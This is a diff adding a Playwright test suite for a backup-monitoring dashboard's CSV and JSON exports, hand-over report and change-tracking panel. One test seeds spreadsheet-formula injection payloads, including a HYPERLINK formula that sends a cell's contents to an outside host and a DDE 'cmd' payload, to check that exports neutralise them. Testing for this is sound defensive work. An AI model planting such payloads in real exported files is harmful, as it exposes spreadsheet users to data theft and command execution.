@@ -1,0 +1,407 @@
+import { readFile } from 'node:fs/promises';
+import { expect, LARGE, PROJECT, REFUSED, test } from './demo.mjs';
+import { extent, figures, grouped, ids, links, open, openWhole, search, settled, stopClock, verdict } from './lens.mjs';
+import { causes, essence, kind, lastDay, minute, moment, SHOWN, span, volumes } from './tally.mjs';
+
+const COLUMNS = [
+  'id', 'name', 'status', 'fail_reason', 'volume_id', 'is_incremental', 'size', 'object_count', 'data_timestamp', 'created_at',
+  'updated_at', 'availability_zone', 'container', 'snapshot_id', 'has_dependent_backups', 'description', 'project_id', 'user_id',
+  'encryption_key_id', 'metadata', 'as_of', 'extent', 'filters',
+];
+/** What the service says of a backup, by the name of a column. */
+const KEYS = { project_id: 'os-backup-project-attr:project_id' };
+const TIMES = ['data_timestamp', 'created_at', 'updated_at'];
+const OWN = COLUMNS.slice(0, -3);
+
+/** RFC 4180, and nothing beside it: records end in CRLF, quotes stand around whole cells, and in them only doubled. */
+function readCsv(text) {
+  const records = [[]];
+  let at = 0;
+  while (at < text.length) {
+    let cell = '';
+    let isQuoted = false;
+    if (text[at] === '"') {
+      isQuoted = true;
+      for (at += 1; ; ) {
+        const end = text.indexOf('"', at);
+        if (end < 0) throw new Error('a quote that is not closed');
+        cell += text.slice(at, end);
+        at = end + 1;
+        if (text[at] !== '"') break;
+        cell += '"';
+        at += 1;
+      }
+    } else {
+      const [plain] = /^[^",\r\n]*/.exec(text.slice(at, at + 10_000));
+      cell = plain;
+      at += plain.length;
+    }
+    records.at(-1).push({ cell, isQuoted });
+    if (text[at] === ',') at += 1;
+    else if (text.startsWith('\r\n', at)) {
+      at += 2;
+      records.push([]);
+    } else throw new Error(`stray text: ${JSON.stringify(text.slice(at, at + 20))}`);
+  }
+  if (records.pop().length > 0) throw new Error('the last record has no end');
+  return records;
+}
+
+/** What is saved when `act` is done: its name and its text, byte order mark and all. */
+async function saved(page, act) {
+  const [download] = await Promise.all([page.waitForEvent('download', { timeout: 15_000 }), act()]);
+  return { name: download.suggestedFilename(), text: (await readFile(await download.path())).toString('utf8') };
+}
+
+async function save(page, name) {
+  return saved(page, async () => {
+    await page.getByText('Export', { exact: true }).click();
+    await page.getByRole('button', { name, exact: true }).click();
+  });
+}
+
+/** A CSV file's rows as objects; a cell without anything, not even quotes, is null. */
+function tableOf({ text }) {
+  expect(text.startsWith('\ufeff')).toBe(true);
+  const [head, ...records] = readCsv(text.slice(1));
+  expect(head.map(({ cell }) => cell)).toEqual(COLUMNS);
+  return records.map((record) => {
+    expect(record).toHaveLength(COLUMNS.length);
+    return Object.fromEntries(record.map(({ cell, isQuoted }, place) => [COLUMNS[place], cell === '' && !isQuoted ? null : cell]));
+  });
+}
+
+/** A backup's fields as a file has them; times are moments. */
+function fields(row, name) {
+  const value = row[KEYS[name] ?? name] ?? null;
+  return TIMES.includes(name) ? moment(value) : value;
+}
+
+const LEADS = /^[\s"\ufeff\0]*[=+\-@＝＋－＠]/;
+/** Without the apostrophes that keep a spreadsheet from running a text. */
+const unguarded = (cell) => cell.replace(/(^|[;\r\n])'(?=[\s"\ufeff\0]*[=+\-@＝＋－＠])/g, '$1').replace(/^'(?=[\0-\x1f])/, '');
+
+/** The CSV file has exactly these backups, each with all that the service said of it. */
+function expectCsv(file, backups, { extent, filters }) {
+  const records = tableOf(file);
+  expect(records.map(({ id }) => id)).toEqual(backups.map(({ id }) => id));
+  for (const [place, record] of records.entries()) {
+    for (const name of OWN) {
+      const value = fields(backups[place], name);
+      const cell = record[name];
+      if (value === null || value === undefined) expect(cell, name).toBe(null);
+      else if (TIMES.includes(name)) expect(moment(cell), name).toBe(value);
+      else if (name === 'metadata') expect(JSON.parse(unguarded(cell))).toEqual(value);
+      else expect(unguarded(cell), name).toBe(String(value));
+    }
+    expect(record.extent).toBe(extent);
+    expect(record.filters && unguarded(record.filters)).toBe(filters);
+    expect(record.as_of).toBe(records[0].as_of);
+  }
+  return records;
+}
+
+function expectJson({ text }, backups, { extent, filters, project = PROJECT }) {
+  const { backups: read, ...about } = JSON.parse(text);
+  expect({ ...about, as_of: undefined }).toEqual({ project_id: project, filters, extent, count: backups.length, as_of: undefined });
+  expect(read.map(({ id }) => id)).toEqual(backups.map(({ id }) => id));
+  for (const [place, one] of read.entries()) {
+    expect(Object.keys(one)).toEqual(OWN.map((name) => KEYS[name] ?? name));
+    for (const name of OWN) {
+      const given = one[KEYS[name] ?? name];
+      expect(TIMES.includes(name) ? moment(given) : given, name).toEqual(fields(backups[place], name) ?? (TIMES.includes(name) ? undefined : null));
+    }
+  }
+  return about;
+}
+
+const NAME = (rows, ending) => new RegExp(`^backups_\\d{8}T\\d{6}Z_${rows}-rows?\\.${ending}$`);
+
+test('a page is saved as CSV and as JSON, as the service gave it', async ({ page, demo, asked }) => {
+  const now = await stopClock(page);
+  await open(page, '?status=error&sort=size:asc&limit=20&page=2');
+  const { backups } = await demo.list('status=error&sort=size:asc&limit=20&offset=20');
+  expect(backups).toHaveLength(20);
+  asked.clear();
+  const about = { extent: 'page 2', filters: 'status:error' };
+  const csv = await save(page, 'This page as CSV');
+  expect(csv.name).toMatch(NAME(20, 'csv'));
+  const [first] = expectCsv(csv, backups, about);
+  expect(moment(first.as_of)).toBe(now);
+  expect(csv.name).toContain(first.as_of.slice(0, 19).replace(/[-:]/g, ''));
+  await expect(page.getByRole('status').last()).toContainText(`Saved ${csv.name}.`);
+  const json = await save(page, 'This page as JSON');
+  expect(json.name).toMatch(NAME(20, 'json'));
+  expect(moment(expectJson(json, backups, about).as_of)).toBe(now);
+  expect(asked.lists()).toEqual([]);
+});
+
+test('all that match are saved, whichever page is in sight, in its order', async ({ page, demo, asked }) => {
+  await open(page, '?status=available&sort=name:desc&limit=10&page=3');
+  const found = await demo.all('status=available&sort=created_at:desc');
+  const sorted = await demo.all('status=available&sort=name:desc');
+  const csv = await save(page, 'All that match as CSV');
+  expect(csv.name).toMatch(NAME(found.length, 'csv'));
+  await expect(extent(page)).toHaveCount(0);
+  const records = tableOf(csv);
+  // Equals stand in any order: the names are in the service's, and the backups are the service's.
+  expect(records.map(({ name }) => name && unguarded(name))).toEqual(sorted.map(({ name }) => name));
+  const place = new Map(records.map(({ id }, place) => [id, place]));
+  const inOrder = [...found].sort((a, b) => place.get(a.id) - place.get(b.id));
+  expectCsv(csv, inOrder, { extent: 'complete', filters: 'status:available' });
+  const before = asked.lists().length;
+  expectJson(await save(page, 'All that match as JSON'), inOrder, { extent: 'complete', filters: 'status:available' });
+  expect(asked.lists().length).toBe(before);
+});
+
+test('what a search over the whole project found is saved as it stands', async ({ page, demo }) => {
+  await openWhole(page, '?q=is%3Afailed%20-name%3Atest&sort=size:desc');
+  const shown = await ids(page);
+  const all = new Map((await demo.all()).map((row) => [row.id, row]));
+  const backups = shown.map((id) => all.get(id));
+  expect(backups.length).toBeGreaterThan(20);
+  const about = { extent: 'complete', filters: 'is:failed -name:test' };
+  expectCsv(await save(page, 'All that match as CSV'), backups, about);
+  expectJson(await save(page, 'All that match as JSON'), backups, about);
+  await page.getByText('Export', { exact: true }).click();
+  await expect(page.getByRole('button', { name: /as (CSV|JSON)$/ })).toHaveText(['All that match as CSV', 'All that match as JSON']);
+});
+
+test('no cell of a spreadsheet is run, and no text is lost', async ({ page, demo, add }) => {
+  const hostile = [
+    '=HYPERLINK("http://example.com/?"&A1,"x")', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', ' \u00a0=1', '＝1', '＋1', '－1', '＠1', 'a;=1;b',
+    'a\n=1', 'a\r\n+1', 'a;"=1"', "'=1", '"', '""', ',', 'plain', ' blanks ', 'ünï 💾', "nightly;=cmd|' /C calc'!A0",
+  ];
+  for (const name of hostile) await add({ name, description: name, fail_reason: name, status: 'error', container: name, availability_zone: name });
+  await open(page, '?limit=1000');
+  const { backups } = await demo.list('limit=1000');
+  for (const name of hostile) expect(backups.map((row) => row.name)).toContain(name);
+  const csv = await save(page, 'This page as CSV');
+  const about = { extent: 'page 1', filters: null };
+  expect(tableOf(csv).map(({ name }) => name)).toContain("'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")");
+  for (const record of readCsv(csv.text.slice(1))) {
+    for (const { cell } of record) {
+      expect(cell).not.toMatch(LEADS);
+      expect(cell).not.toMatch(/^[\t\r\n\0]/);
+      // Where lists are separated by semicolons, a spreadsheet cuts there and at line breaks, quotes or not.
+      for (const part of cell.split(/[;\r\n]/)) expect(part).not.toMatch(LEADS);
+    }
+  }
+  // An empty text is the whole project, which asks for nothing.
+  expectCsv({ ...csv, text: csv.text }, backups, { ...about, filters: tableOf(csv)[0].filters });
+  expect(tableOf(csv)[0].filters).toBe('');
+  expectJson(await save(page, 'This page as JSON'), backups, { extent: 'page 1', filters: '' });
+});
+
+test.describe('of less than the whole', () => {
+  test.use({ allowed: REFUSED });
+
+  test('rows that cannot be read are in no file, which says so', async ({ page, demo }) => {
+    await page.goto('./fault/oddrow/');
+    await settled(page);
+    await expect(links(page).first()).toBeVisible();
+    const backups = (await demo.list()).backups.filter((_, place) => place !== 1);
+    const file = await save(page, 'This page as JSON');
+    expectJson(file, backups, { extent: 'page 1, 2 unreadable rows left out', filters: '' });
+  });
+
+  test('a file of a partial reading says so', async ({ page, demo }) => {
+    await page.route('**/backups/detail?*offset=999&**', (route) => route.fulfill({ status: 403, body: '' }));
+    await page.goto('./?q=is%3Afailed');
+    await expect(extent(page)).toContainText('partial: 1,000 of 1,200');
+    await expect(page.getByRole('button', { name: 'Stop' })).toHaveCount(0);
+    const read = (await demo.list('limit=1000')).backups;
+    const failed = read.filter((row) => kind(row) === 'failed');
+    expectCsv(await save(page, 'All that match as CSV'), failed, { extent: 'partial: 1,000 of 1,200', filters: 'is:failed' });
+  });
+});
+
+test('thirty thousand backups are in one file', async ({ page, demo }) => {
+  test.setTimeout(60_000);
+  await open(page, 'large/');
+  const backups = await demo.all('', LARGE);
+  const json = await save(page, 'All that match as JSON');
+  expect(json.name).toMatch(NAME(30_000, 'json'));
+  const read = JSON.parse(json.text);
+  expect(read.count).toBe(30_000);
+  expect(read.extent).toBe('complete');
+  expect(unlike(read.backups, backups)).toBe(-1);
+  const csv = await save(page, 'All that match as CSV');
+  expect(unlike(readCsv(csv.text.slice(1)).slice(1).map(([id]) => ({ id: id.cell })), backups)).toBe(-1);
+});
+
+/** Where two long lists of backups are not the same; -1 where they are. To show the difference would take minutes. */
+function unlike(some, others) {
+  if (some.length !== others.length) return Math.min(some.length, others.length);
+  return some.findIndex(({ id }, place) => id !== others[place].id);
+}
+
+test('the hand-over report says what the Overview says', async ({ page, demo }) => {
+  const now = await stopClock(page);
+  await openWhole(page, '?view=overview&target=50h');
+  const rows = await demo.all();
+  const all = volumes(rows, now, { hours: 50 });
+  const { name, text } = await saved(page, () => page.getByRole('button', { name: 'Hand-over report' }).click());
+  expect(name).toMatch(/^backups_\d{8}T\d+Z_report\.md$/);
+  const lines = text.split('\n');
+  expect(lines[0]).toBe('# Backup Lens demo');
+  expect(text).toContain(`**${await verdict(page).textContent()}**`);
+  const exact = `${new Date(now / 1000).toISOString().slice(0, 19).replace('T', ' ')} UTC`;
+  expect(text).toContain(`As of ${exact} · complete · 1,200 backups of ${all.length} volumes · project \`${PROJECT}\``);
+  const day = lastDay(rows, now);
+  expect(text).toContain(
+    `In the last 24 h ${day.all} were asked for: ${day.good} succeeded, ${day.failed} failed, ${day.busy} in transition, ${day.unknown} cannot be judged.`,
+  );
+
+  const counted = causes(rows).sort((a, b) => b.rows.length - a.rows.length);
+  const cells = lines.filter((line) => /^\| \d/.test(line)).map((line) => line.slice(2, -2).split(' | '));
+  expect(cells).toHaveLength(Math.min(20, counted.length));
+  expect(cells.map(([failures]) => Number(failures))).toEqual(counted.slice(0, 20).map(({ rows: { length } }) => length));
+  for (const [failures, volumes, first, last, reason] of cells) {
+    const template = /^`+ ?(.*?) ?`+/.exec(reason)?.[1] ?? '';
+    const cause = counted.find(({ name }) => name === essence(template.replaceAll('\\|', '|')));
+    expect([failures, volumes, first, last]).toEqual([String(cause.rows.length), String(cause.volumes), minute(cause.first), minute(cause.last)]);
+  }
+
+  const list = (heading) => text.split(`## ${heading}\n`)[1].split('\n## ')[0];
+  const items = (heading) => list(heading).split('\n').filter((line) => line.startsWith('- '));
+  const said = ({ id, lastGood, age, usual, streak }) => {
+    const good = lastGood === undefined ? 'no recovery point is known' : `last good recovery point ${new Date(lastGood / 1000).toISOString().slice(0, 19).replace('T', ' ')} UTC (${span(age)} ago)`;
+    const failed = streak === 0 ? '' : streak === 1 ? ', the latest attempt failed' : `, ${streak} failures in a row`;
+    return `- \`${id}\`: ${good}${usual ? `, usually every ${span(usual)}` : ''}${failed}`;
+  };
+  for (const [heading, some] of [['No recovery point within 2 days', all.filter(SHOWN.missed)], ['Overdue by their own cadence', all.filter(SHOWN.overdue)]]) {
+    expect(some.length).toBeGreaterThan(0);
+    const shown = items(heading);
+    expect(shown).toHaveLength(Math.min(20, some.length));
+    const known = some.map(said);
+    for (const line of shown) expect(known).toContain(line);
+    if (some.length > 20) expect(list(heading)).toContain(`and ${some.length - 20} more.`);
+  }
+  expect(text.endsWith(`<${new URL('?view=overview&target=50h', demo.url)}>\n`)).toBe(true);
+});
+
+test.describe('since the last visit', () => {
+  const part = (page) => page.locator('section').filter({ has: page.getByRole('heading', { name: 'Since the last visit' }) });
+  const FIRST = 'This is the first visit that this browser remembers.';
+  const NUMBERS = ['new', 'newly-failed', 'recovered', 'vanished'];
+  const hours = (count) => new Date(Date.now() - count * 3_600_000).toISOString().replace('Z', '000Z');
+  const numbers = async (page) => Object.fromEntries(await Promise.all(NUMBERS.map(async (name) => [name, Number(await figures(page, name).textContent())])));
+  const kept = (page) => page.evaluate(() => Object.fromEntries(Object.keys(localStorage).filter((key) => /seen|visit/.test(key)).map((key) => [key.split(':')[1], localStorage[key].slice(0, 29)])));
+
+  /** As if what this browser saw last had been seen some hours ago. */
+  async function age(page, count) {
+    await expect.poll(async () => Object.keys(await kept(page))).toContain('seen');
+    await page.evaluate(
+      ([key, at]) => (localStorage[key] = localStorage[key].replace(/^(\S+) \S+/, `$1 ${at}`)),
+      [`backup-lens:seen:${PROJECT}`, hours(count)],
+    );
+  }
+
+  test('what is new, failed, recovered and vanished is counted and leads to its rows', async ({ page, demo, add, change }) => {
+    const { backups: failed } = await demo.list('status=error&limit=3');
+    const { backups: good } = await demo.list('status=available&limit=3');
+    const gone = await demo.add({ name: 'soon gone' });
+    await openWhole(page, '?view=overview');
+    await expect(part(page)).toContainText(FIRST);
+    await age(page, 5);
+
+    const fresh = await add({ name: 'fresh' });
+    const broken = await add({ name: 'fresh and broken', status: 'error' });
+    await change(failed[0].id, { status: 'available' });
+    await change(failed[1].id, { status: 'creating' });
+    await change(good[0].id, { status: 'error_deleting' });
+    await demo.remove(gone);
+    const expected = { new: 2, 'newly-failed': 2, recovered: 1, vanished: 1 };
+    await page.reload();
+    await expect(part(page)).toContainText(/UTC, [45] h ago\./, { timeout: 10_000 });
+    expect(await numbers(page)).toEqual(expected);
+    await part(page).getByText('Which').first().click();
+    await expect(part(page).getByRole('listitem').filter({ visible: true }).getByRole('link')).toHaveCount(2);
+    await expect(part(page).getByRole('link', { name: 'fresh and broken' })).toBeVisible();
+    await expect(part(page).locator('code')).toHaveText([gone]);
+
+    // A reload goes on with the same visit.
+    await page.reload();
+    await expect(part(page)).toContainText(/UTC, [45] h ago\./, { timeout: 10_000 });
+    expect(await numbers(page)).toEqual(expected);
+
+    const rows = { new: [broken, fresh], 'newly-failed': [broken, good[0].id], recovered: [failed[0].id] };
+    for (const [name, list] of Object.entries(rows)) {
+      await figures(page, name).click();
+      await expect.poll(() => search(page)).toBe(`?q=is:${name}`);
+      await expect.poll(async () => (await ids(page)).sort()).toEqual([...list].sort());
+      await page.goBack();
+      await expect(verdict(page)).toBeVisible();
+    }
+    await openWhole(page, `?q=is%3Anew%20-is%3Anewly-failed`);
+    await expect.poll(() => ids(page)).toEqual([fresh]);
+  });
+
+  test('“Compare from now on” begins anew, and a refresh counts from there', async ({ page, demo, add }) => {
+    await openWhole(page, '?view=overview');
+    await age(page, 30);
+    await add({ name: 'before' });
+    await page.reload();
+    await expect(figures(page, 'new')).toHaveText('1');
+    await part(page).getByRole('button', { name: 'Compare from now on' }).click();
+    await expect(part(page)).toContainText('just now.');
+    await expect.poll(() => numbers(page)).toEqual({ new: 0, 'newly-failed': 0, recovered: 0, vanished: 0 });
+    await expect(part(page).getByRole('link')).toHaveCount(0);
+    await add({ name: 'after', status: 'error' });
+    await page.getByRole('button', { name: 'Refresh' }).click();
+    await expect.poll(() => numbers(page)).toEqual({ new: 1, 'newly-failed': 1, recovered: 0, vanished: 0 });
+    await page.reload();
+    await expect.poll(() => figures(page, 'new').allTextContents()).toEqual(['1']);
+  });
+
+  test('“Forget” forgets, also after a reload', async ({ page }) => {
+    await openWhole(page, '?view=overview');
+    await age(page, 30);
+    await page.reload();
+    await expect(figures(page, 'new')).toHaveText('0');
+    await part(page).getByRole('button', { name: 'Forget' }).click();
+    await expect(part(page)).toContainText(FIRST);
+    expect(await kept(page)).toEqual({});
+    await page.reload();
+    await expect(part(page)).toContainText(FIRST);
+  });
+
+  test('a memory that is none is the first visit', async ({ page }) => {
+    await openWhole(page, '?view=overview');
+    await age(page, 30);
+    await page.evaluate((key) => (localStorage[key] += ' nonsense'), `backup-lens:seen:${PROJECT}`);
+    await page.reload();
+    await expect(verdict(page)).toBeVisible();
+    await expect(part(page)).toContainText(FIRST);
+  });
+
+  test('a browser without room says that it keeps nothing', async ({ page }) => {
+    await page.addInitScript(() => {
+      const set = Storage.prototype.setItem;
+      Storage.prototype.setItem = function (key, text) {
+        if (key.includes(':seen:')) throw new DOMException('full', 'QuotaExceededError');
+        return set.call(this, key, text);
+      };
+    });
+    await openWhole(page, '?view=overview');
+    await expect(page.getByText('This browser has no room, or no leave, to keep what was seen')).toBeVisible();
+    await expect(verdict(page)).toBeVisible();
+  });
+
+  test.describe('partly read', () => {
+    test.use({ allowed: REFUSED });
+
+    test('nothing is said to have vanished before the whole project has been read', async ({ page }) => {
+      await openWhole(page, '?view=overview');
+      await age(page, 30);
+      const before = await kept(page);
+      await page.route('**/backups/detail?*offset=999&**', (route) => route.fulfill({ status: 403, body: '' }));
+      await page.reload();
+      await expect(extent(page)).toContainText('partial: 1,000 of 1,200');
+      await expect(part(page)).toContainText('What changed is known once the whole project has been read.');
+      await expect(figures(page, 'vanished')).toHaveCount(0);
+      expect(await kept(page)).toEqual(before);
+    });
+  });
+});
